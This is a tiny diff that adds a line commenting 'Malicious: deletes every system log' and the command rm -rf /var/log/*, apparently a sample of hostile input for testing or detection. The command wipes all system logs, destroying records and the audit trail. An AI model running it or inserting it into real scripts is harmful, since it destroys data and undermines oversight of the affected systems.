@@ -1,0 +1,2 @@
+# Malicious: deletes every system log.
+rm -rf /var/log/*
